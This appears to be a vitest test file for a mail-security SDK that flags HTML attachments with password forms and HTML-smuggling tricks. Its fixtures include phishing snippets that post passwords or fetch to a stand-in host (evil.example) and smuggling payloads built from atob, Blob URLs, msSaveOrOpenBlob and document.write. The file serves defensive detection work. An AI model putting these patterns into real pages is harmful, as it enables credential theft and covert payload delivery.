// HTML attachments: a password form and where it posts, HTML smuggling; bounded to the first 2 MB.
import { describe, expect, it } from "vitest";
import { analyseHtmlFile, isHtmlFile, looksLikeSmuggling } from "../../src/sdk/index.js";

const html = (text: string) => Buffer.from(text, "utf8");

describe("analyseHtmlFile", () => {
  it("finds a password form and the host it posts to (absolute actions only)", () => {
    expect(analyseHtmlFile(html('<form action="https://Evil.example/p"><input type="PASSWORD"></form>'))).toEqual({
      passwordForm: true,
      smuggling: false,
      formAction: "evil.example",
    });
    expect(analyseHtmlFile(html('<form action="post.php"><input type=password></form>'))).toEqual({ passwordForm: true, smuggling: false });
    // Posted by script, without a form: still a password form.
    expect(
      analyseHtmlFile(html('<input type="password" id="p"><script>fetch("https://evil.example", {method: "POST"})</script>')).passwordForm,
    ).toBe(true);
    expect(analyseHtmlFile(html('<form action="https://x.example/"><input type="text"></form>'))).toEqual({
      passwordForm: false,
      smuggling: false,
    });
  });

  it("finds smuggling: a Blob from decoded data, msSaveOrOpenBlob, document.write of decoded text, a long base64 payload", () => {
    expect(analyseHtmlFile(html("<script>var b = new Blob([atob(x)]); location = URL.createObjectURL(b)</script>")).smuggling).toBe(true);
    expect(analyseHtmlFile(html("<script>navigator.msSaveOrOpenBlob(b, 'a.iso')</script>")).smuggling).toBe(true);
    expect(analyseHtmlFile(html("<script>document.write(unescape('%3Cform%20action%3D'))</script>")).smuggling).toBe(true);
    expect(
      analyseHtmlFile(
        html(`<body onload="go()"><script>function go(){ window.location = URL.createObjectURL(make("${"QUJD".repeat(400)}")) }</script>`),
      ).smuggling,
    ).toBe(true);
    expect(analyseHtmlFile(html('<img src=x onerror="document.body.innerHTML = atob(p)">')).smuggling).toBe(true);
  });

  it("leaves ordinary pages alone, and script-like text outside scripts", () => {
    expect(
      analyseHtmlFile(
        html(
          '<html><script>document.title = "Agenda"; var n = atob("aGk=")</script><p>new Blob createObjectURL msSaveOrOpenBlob</p></html>',
        ),
      ),
    ).toEqual({ passwordForm: false, smuggling: false });
    expect(looksLikeSmuggling("")).toBe(false);
  });

  it("reads only the first 2 MB", () => {
    const padded = Buffer.concat([html(`<p>${"x".repeat(2 * 1024 * 1024)}</p>`), html('<input type="password">')]);
    expect(analyseHtmlFile(padded).passwordForm).toBe(false);
  });

  it("tells HTML files by name, declared type or bytes", () => {
    expect(isHtmlFile("Invoice.SHTML", "application/octet-stream", undefined)).toBe(true);
    expect(isHtmlFile("a.bin", "text/html", undefined)).toBe(true);
    expect(isHtmlFile("a.bin", "application/octet-stream", "text/html")).toBe(true);
    expect(isHtmlFile("a.pdf", "application/pdf", "application/pdf")).toBe(false);
  });
});
